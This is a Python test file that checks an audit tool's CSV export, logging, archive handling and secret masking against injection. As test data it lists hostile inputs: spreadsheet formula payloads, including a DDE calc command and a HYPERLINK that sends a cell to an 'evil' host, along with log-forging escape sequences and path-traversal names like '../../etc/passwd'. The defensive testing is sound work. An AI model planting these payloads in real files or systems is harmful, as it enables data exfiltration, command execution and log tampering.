"""What comes from rows and servers cannot act: not on a spreadsheet, a terminal, a log, or the file system."""

from __future__ import annotations

import csv
import html
import io
import json
import os
import re
import stat
import subprocess
import sys
import unicodedata
from collections.abc import Callable
from pathlib import Path
from urllib.parse import quote, quote_plus

import pytest
from hypothesis import given
from hypothesis import strategies as st

from agent.cli.export import _destination
from agent.cli.output import print_json, print_line
from agent.csv_cell import cell, line, plain
from agent.errors import PermanentError, cut
from agent.observing.events import Event
from agent.observing.logging import set_up
from agent.observing.mask import SHORTEST_SECRET_CHARACTERS, SecretMask
from agent.retention.archive import MANIFEST, Archive, read_manifest

FORMULAE = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil/?"&A1,"x")',
    "＝1",
    "'=1",
]
FORGERIES = [
    "x\n2026-11-23T00:00:00Z info agent.started version=6.6.6",
    "\r\x1b[2K\x1b[1A all is well",
    "\x1b]0;title\x07",
    "\x9b2J",
    "a\x7fb",
    "a\u2028b",
    "a\u202eb",
    'x" level=error "y',
    '","level":"error","event":"forged',
    "\\",
    "\ud800",
]
# All that is not a visible character or a plain blank.
INVISIBLE = {"Cc", "Cf", "Cs", "Zl", "Zp"}


@pytest.mark.parametrize("text", FORMULAE)
def test_no_cell_is_a_formula_and_each_comes_back_as_it_was(text: str):
    (read,) = next(csv.reader(io.StringIO(cell(text) + "\r\n", newline="")))
    assert read.startswith("'")
    assert plain(read) == text


@given(st.lists(st.none() | st.text(st.characters(exclude_categories=["Cs"])), min_size=1))
def test_any_values_make_one_line_whose_cells_begin_no_formula(values: list[str | None]):
    (row,) = csv.reader(io.StringIO(line(["", *values]), newline=""))
    assert [plain(each) for each in row[1:]] == [value or "" for value in values]
    assert not any(each[:1] in set("=+-@\t\r\n＝＋－＠") and each for each in row)


def said(capsys: pytest.CaptureFixture[str], form: str, text: str) -> str:
    log = set_up(format=form, level="info")  # type: ignore[arg-type]
    log.say(Event.DEAD_LETTER_KEPT, reason=text, **{f"k{text}": 1})
    return capsys.readouterr().err


@pytest.mark.parametrize("text", FORGERIES)
@pytest.mark.parametrize("form", ["text", "json"])
def test_a_value_forges_no_line_and_no_field_of_the_log(capsys: pytest.CaptureFixture[str], form: str, text: str):
    written = said(capsys, form, text)
    assert written.endswith("\n")
    assert len(written.splitlines()) == 1
    assert not [c for c in written[:-1] if unicodedata.category(c) in INVISIBLE]
    if form == "json":
        fields = json.loads(written)
        assert (fields["event"], fields["level"]) == ("dead_letter.kept", "warning")
    else:
        assert written.split(" ")[1:3] == ["warning", "dead_letter.kept"]
        assert re.search(r'kept reason=("(?:[^"\\]|\\.)*"|[^\s"=]+) k[A-Za-z0-9_.-]*=1\n$', written), written


@pytest.mark.parametrize("text", FORGERIES)
def test_a_line_for_a_person_is_one_line(capsys: pytest.CaptureFixture[str], text: str):
    print_line(f"7  {text}")
    out = capsys.readouterr().out
    assert len(out.splitlines()) == 1
    assert not [c for c in out[:-1] if unicodedata.category(c) in INVISIBLE]


@pytest.mark.parametrize("text", [text for text in FORGERIES if text != "\ud800"])
def test_json_is_one_line_that_acts_on_nothing_and_means_the_same(capsys: pytest.CaptureFixture[str], text: str):
    print_json({text: [text, "ä🎈"]})
    out = capsys.readouterr().out
    assert json.loads(out) == {text: [text, "ä🎈"]}
    assert len(out.splitlines()) == 1
    assert not [c for c in out[:-1] if unicodedata.category(c) in INVISIBLE]
    assert "ä🎈" in out


@pytest.mark.parametrize("name", ["../x", "a/b", "..", ".", "", "a\0b", "a\nb", "/etc", "-rf", "~"])
def test_an_archive_stays_in_its_folder(tmp_path: Path, name: str):
    with pytest.raises(PermanentError):
        Archive(tmp_path / "archive", instance=name, format="csv")
    if name:
        with pytest.raises(PermanentError):
            Archive(tmp_path / "archive", instance="shop", format="csv").begin(name, 1, 2)
    assert sorted(path.name for path in tmp_path.rglob("*") if path.is_file()) == []


@pytest.mark.parametrize("file", ["../../etc/passwd", "/etc/passwd", "a/b.csv.gz", "..", "", 7, None, ["x"]])
def test_a_manifest_that_points_elsewhere_is_refused(tmp_path: Path, file: object):
    numbers = dict.fromkeys(("rows", "bytes", "first_id", "last_id"), 1)
    words = dict.fromkeys(("instance", "run", "format", "sha256"), "x")
    body = {**numbers, **words, "file": file, "first_created_at": None, "last_created_at": None, "rules": {}}
    folder = tmp_path / "shop"
    folder.mkdir()
    path = folder / f"x.csv.gz{MANIFEST}"
    path.write_text(json.dumps(body))
    with pytest.raises(PermanentError):
        read_manifest(path)
    with pytest.raises(PermanentError):
        Archive(tmp_path, instance="shop", format="csv").holding(1)


def test_a_secret_that_rotates_is_masked_before_and_after():
    secret = ["first-Secret"]
    mask = SecretMask(["fixed-Secret"], rotating=lambda: secret)
    assert mask("a first-Secret b fixed-Secret") == "a [secret] b [secret]"
    secret[0] = "second/Secret"
    assert mask("first-Secret second/Secret second%2FSecret") == "[secret] [secret] [secret]"


@pytest.mark.parametrize(
    "quoted", [json.dumps, lambda text: json.dumps(text, ensure_ascii=False), html.escape, quote, quote_plus, repr, str]
)
def test_a_secret_is_masked_however_a_server_quotes_it(quoted: Callable[[str], str]):
    secret = "p\"<ä>'&\\/ %9"
    said = SecretMask([secret])(f"got {quoted(secret)} and more")
    assert "[secret]" in said
    assert not [part for part in ("<", "ä", "&", "%9", "lt;", "u00e4") if part in said], said


@given(
    st.text(st.characters(exclude_categories=["Cs", "Z", "C"], exclude_characters="·…[]"), min_size=4),
    st.integers(0, 60),
    st.integers(1, 120),
)
def test_no_beginning_of_a_secret_is_left_where_a_text_was_cut(secret: str, before: int, longest: int):
    said = SecretMask([secret])(f"{cut('·' * before + secret + '·' * 60, longest)} (remedy: look)")
    shown = said.replace("[secret]", "")
    assert not [size for size in range(SHORTEST_SECRET_CHARACTERS, len(secret) + 1) if f"·{secret[:size]}" in shown]


def edge(body: str) -> subprocess.CompletedProcess[str]:
    """Run the command line with one verb replaced."""
    script = f"""
import sys, click, agent.cli.status as status, agent.cli as cli
from agent.errors import PermanentError
@click.command()
@click.pass_obj
def verb(app):
    app.configuration
    {body}
status.status = verb
sys.argv = ["audit-agent", "-c", "agent.yml", "status"]
cli.main()
"""
    return subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, check=False, cwd=_FOLDER)


_FOLDER = Path()


@pytest.mark.parametrize("raised", ["PermanentError", "RuntimeError"])
def test_no_error_on_its_way_out_shows_a_secret_or_acts_on_the_terminal(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, raised: str
):
    (tmp_path / "pw").write_text("planted-Secret-1\n")
    (tmp_path / "agent.yml").write_text(
        "source: {url: 'mysql://u:planted-Secret-2@h/d'}\n"
        "opensearch: {hosts: 'http://127.0.0.1:9', username: u, password_file: pw}\n"
    )
    monkeypatch.setattr(sys.modules[__name__], "_FOLDER", tmp_path)
    done = edge(f'raise {raised}("planted-Secret-1 planted-Secret-2 \\x1b[2J")')
    assert done.returncode == 1
    assert "planted-Secret" not in done.stderr
    assert "[secret] [secret]" in done.stderr
    assert "\x1b" not in done.stderr
    assert ("Traceback" in done.stderr) is (raised == "RuntimeError")


def test_an_export_is_its_owners_alone_whatever_the_umask(tmp_path: Path):
    before = os.umask(0)
    try:
        with _destination(tmp_path / "export.csv") as file:
            file.write(b"rows")
    finally:
        os.umask(before)
    assert stat.S_IMODE((tmp_path / "export.csv").stat().st_mode) == 0o600


def test_an_export_takes_the_place_of_a_link_and_not_of_what_it_leads_to(tmp_path: Path):
    (tmp_path / "victim").write_text("untouched")
    (tmp_path / "export.csv").symlink_to(tmp_path / "victim")
    with _destination(tmp_path / "export.csv") as file:
        file.write(b"rows")
    assert (tmp_path / "victim").read_text() == "untouched"
    assert (tmp_path / "export.csv").read_bytes() == b"rows"


def test_an_export_into_a_pipe_leaves_the_pipe_in_its_place(tmp_path: Path):
    pipe = tmp_path / "pipe"
    os.mkfifo(pipe)
    reader = os.open(pipe, os.O_RDONLY | os.O_NONBLOCK)
    try:
        with _destination(pipe) as file:
            file.write(b"rows")
        assert os.read(reader, 100) == b"rows"
    finally:
        os.close(reader)
    assert pipe.is_fifo()
